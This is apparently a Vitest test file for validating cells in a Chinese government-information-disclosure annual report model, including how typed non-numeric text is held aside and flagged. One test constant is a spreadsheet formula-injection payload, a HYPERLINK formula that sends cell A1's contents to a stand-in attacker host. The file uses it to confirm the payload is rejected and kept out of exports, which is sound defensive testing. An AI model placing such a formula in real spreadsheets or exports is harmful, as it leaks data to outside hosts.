// Pending input (issue 11, item 4): a stored cell is a value or empty; typed text that is no value lives
// beside the tables, is judged there as VALUE-FORMAT (never VALUE-MISSING), and comes back into its cell.
import { describe, expect, it } from 'vitest';
import { setCell } from './cells';
import { ZReport } from './model';
import { readStoredReport, splitPendingInput, withoutPendingInput, withPendingInCells } from './pending-input';
import { check, cleanReport, rulesOf } from './test-support';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
/** The clean report with a formula typed into 行政许可 and 「约20」 into 复议/结果维持. */
function typed() {
  const report = cleanReport();
  let tables = setCell(report.tables, 'active.licensing', FORMULA);
  tables = setCell(tables, 'litigation.0', '约20');
  return { ...report, tables };
}

describe('ZReport: a stored statutory cell is a number or empty', () => {
  it.each([
    ['a formula', 'active.licensing', FORMULA, '第二十条第（五）项 / 行政许可 / 本年处理决定数量'],
    ['a word', 'litigation.0', '约20', '行政复议 / 结果维持'],
    ['a negative count', 'applications.0.0', -3, '一、本年新收政府信息公开申请数量 / 自然人'],
    ['an amount with 7 decimals', 'active.feesWan', '1.1234567', '本年收费金额（单位：万元）'],
  ])('refuses %s in a cell, naming the cell', (_name, key, value, name) => {
    const report = cleanReport();
    const parsed = ZReport.safeParse({ ...report, tables: setCell(report.tables, key, value) });
    expect(parsed.success).toBe(false);
    expect(parsed.error?.issues.map((i) => i.message).join('\n')).toContain(name);
  });

  it('takes numbers, amounts as decimal strings and empty cells', () => {
    const report = cleanReport();
    const tables = setCell(setCell(report.tables, 'active.feesWan', '4618.24'), 'active.licensing', null);
    expect(ZReport.safeParse({ ...report, tables }).success).toBe(true);
  });

  it('takes pending input for a known cell only, without control characters', () => {
    const report = cleanReport();
    expect(ZReport.safeParse({ ...report, pendingInput: { 'litigation.0': '约20' } }).success).toBe(true);
    expect(ZReport.safeParse({ ...report, pendingInput: { 'tables.nowhere': '1' } }).success).toBe(false);
    expect(ZReport.safeParse({ ...report, pendingInput: { 'litigation.0': 'a\u0000b' } }).success).toBe(false);
  });
});

describe('splitPendingInput and withPendingInCells', () => {
  it('moves text that is no value out of the tables, and back', () => {
    const split = splitPendingInput(typed());
    expect(split.tables.active.licensing).toBeNull();
    expect(split.tables.litigation[0]).toBeNull();
    expect(split.pendingInput).toEqual({ 'active.licensing': FORMULA, 'litigation.0': '约20' });
    expect(ZReport.safeParse(split).success).toBe(true);
    expect(withPendingInCells(split)).toEqual(typed());
  });

  it('keeps a report without typed text as it is, with no pendingInput', () => {
    expect(splitPendingInput(cleanReport())).toEqual(cleanReport());
  });

  it('lets a value entered later win over the pending input of its cell', () => {
    const later = { ...cleanReport(), pendingInput: { 'active.licensing': '约20' } };
    expect(splitPendingInput(later).pendingInput).toBeUndefined();
  });

  it('reads a row stored before pending input existed (text in its cells) as split', () => {
    const stored = JSON.parse(JSON.stringify(typed()));
    expect(readStoredReport(stored)).toEqual(splitPendingInput(typed()));
  });

  it('leaves nothing of it in what is exported', () => {
    expect(JSON.stringify(withoutPendingInput(splitPendingInput(typed())))).not.toContain('HYPERLINK');
  });
});

describe('the rule engine judges pending input in its cell', () => {
  it('reports VALUE-FORMAT for each pending input, not VALUE-MISSING', () => {
    const findings = check(splitPendingInput(typed()));
    const format = findings.filter((f) => f.rule === 'VALUE-FORMAT');
    expect(format.map((f) => f.cellKeys)).toEqual([['active.licensing'], ['litigation.0']]);
    expect(rulesOf(findings)).not.toContain('VALUE-MISSING');
  });
});
